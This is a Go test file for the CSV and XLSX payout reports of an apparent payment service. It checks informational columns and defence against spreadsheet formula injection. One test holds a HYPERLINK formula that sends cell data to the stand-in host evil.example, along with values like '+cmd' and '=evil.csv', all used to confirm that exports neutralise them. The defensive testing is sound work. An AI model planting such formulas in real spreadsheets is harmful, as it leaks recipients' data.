package report

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/acme/payout/internal/money"
	"github.com/acme/payout/internal/proof/testenv/golden"
	"github.com/xuri/excelize/v2"
)

// TestInfoColumnsGolden: the file's informational columns follow the
// fixed ones, values as written beside their row (missing trailing values
// empty), a name that is also a result column's prefixed "file:".
func TestInfoColumnsGolden(t *testing.T) {
	at := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	rows := []Row{
		{Line: 2, ExternalID: "PO-1", Amount: money.MustParse("10.00"), Destination: "card 411111******1111", State: "paid", Attempts: 1, UpdatedAt: at,
			Info: []string{"Ivanov I.I.", "2026-11-30", "=first, \"quoted\""}},
		{Line: 3, ExternalID: "PO-2", Amount: money.MustParse("5.00"), Destination: "telecom MTS", State: "queued", UpdatedAt: at},
		{Line: 5, ExternalID: "PO-3", Amount: money.MustParse("7.50"), Destination: "telecom MTS", State: "failed", Attempts: 1, UpdatedAt: at,
			Info: []string{"Петров"}},
	}
	b := Batch{ID: "b-info", File: "notes.csv", LoadedAt: at, Rows: 3, Total: money.MustParse("22.50"), Scale: 2,
		InfoColumns: []string{"Recipient", "Pay date", "state"}}
	c, _ := writeCSV(t, b, rows)
	golden.Check(t, filepath.Join("testdata", "info.csv"), c)

	// Every record, the trailer's too, is as wide as the header.
	recs, err := csv.NewReader(bytes.NewReader(c)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := append(slices.Clone(Header), "Recipient", "Pay date", "file:state"); !slices.Equal(recs[0], want) {
		t.Errorf("header %q, want %q", recs[0], want)
	}
	n := len(Header)
	if got := recs[1][n:]; !slices.Equal(got, []string{"Ivanov I.I.", "2026-11-30", "'=first, \"quoted\""}) {
		t.Errorf("row 1 info %q", got)
	}
	if got := recs[2][n:]; !slices.Equal(got, []string{"", "", ""}) {
		t.Errorf("row 2 info %q", got)
	}
	if got := recs[3][n:]; !slices.Equal(got, []string{"Петров", "", ""}) {
		t.Errorf("row 3 info %q", got)
	}
}

// TestInfoColumnsInXLSX: the XLSX result has the informational columns
// the CSV result has, same header and values (issue 43 defect 6: the
// workbook dropped them).
func TestInfoColumnsInXLSX(t *testing.T) {
	at := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	rows := []Row{
		{Line: 2, ExternalID: "PO-1", Amount: money.MustParse("10.00"), Destination: "card 411111******1111", State: "paid", Attempts: 1, UpdatedAt: at,
			Info: []string{"Ivanov I.I.", "2026-11-30", "=first"}},
		{Line: 3, ExternalID: "PO-2", Amount: money.MustParse("5.00"), Destination: "telecom MTS", State: "queued", UpdatedAt: at,
			Info: []string{"Петров"}},
	}
	b := Batch{ID: "b-info", File: "notes.xlsx", LoadedAt: at, Rows: 2, Total: money.MustParse("15.00"), Scale: 2,
		InfoColumns: []string{"Recipient", "Pay date", "state"}}
	data, _ := writeXLSX(t, b, rows)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows(SheetPayouts)
	if err != nil {
		t.Fatal(err)
	}
	if want := append(slices.Clone(Header), "Recipient", "Pay date", "file:state"); len(got) < 3 || !slices.Equal(got[0], want) {
		t.Fatalf("header %q, want %q", got[0], want)
	}
	n := len(Header)
	if len(got[1]) < n+3 || !slices.Equal(got[1][n:n+3], []string{"Ivanov I.I.", "2026-11-30", "'=first"}) {
		t.Errorf("row 1: %q", got[1])
	}
	if len(got[2]) < n+1 || got[2][n] != "Петров" {
		t.Errorf("row 2: %q", got[2])
	}
}

// Issue 38, item 8: every text cell and header of the workbook is
// neutralised against formulas as in the CSV (Neutralize): an extra
// column named, and a note beginning with, =HYPERLINK( read back with
// the leading quote; amounts stay number cells.
func TestXLSXNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	const link = `=HYPERLINK("http://evil.example/?d="&C2,"click")`
	rows := []Row{
		{Line: 2, ExternalID: "@PO-1", Amount: money.MustParse("10.00"), Destination: "card 411111******1111", State: "needs_review", UpdatedAt: at,
			Error: "+cmd", ResolvedBy: "-alice", ResolutionNote: link, Info: []string{link}},
	}
	b := Batch{ID: "b-formula", File: "=evil.csv", LoadedAt: at, Rows: 1, Total: money.MustParse("10.00"), Scale: 2,
		InfoColumns: []string{link}}
	data, _ := writeXLSX(t, b, rows)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows(SheetPayouts)
	if err != nil {
		t.Fatal(err)
	}
	n := len(Header)
	if len(got) < 2 || len(got[0]) <= n || got[0][n] != "'"+link {
		t.Fatalf("header %q, want %q last", got[0], "'"+link)
	}
	want := map[int]string{1: "'@PO-1", 8: "'+cmd", 10: "'-alice", 11: "'" + link, n: "'" + link}
	for i, w := range want {
		if got[1][i] != w {
			t.Errorf("row 1 column %d (%s) = %q, want %q", i, got[0][i], got[1][i], w)
		}
	}
	if typ, err := f.GetCellType(SheetPayouts, "C2"); err != nil || typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("amount cell type %v %v, want a number", typ, err)
	}
	if v, _ := f.GetCellValue(SheetPayouts, "C2"); v != "10.00" {
		t.Errorf("amount %q", v)
	}
	if formulas := xlsxFormulas(t, f); formulas != 0 {
		t.Errorf("%d formula cells", formulas)
	}
	summary, err := f.GetRows(SheetSummary)
	if err != nil || len(summary) < 2 || summary[1][1] != "'=evil.csv" {
		t.Errorf("summary file cell: %q %v", summary, err)
	}
}

// xlsxFormulas counts the formula cells of the Payouts sheet.
func xlsxFormulas(t *testing.T, f *excelize.File) int {
	t.Helper()
	rows, err := f.GetRows(SheetPayouts)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for r, row := range rows {
		for c := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fo, _ := f.GetCellFormula(SheetPayouts, cell); fo != "" {
				n++
			}
		}
	}
	return n
}
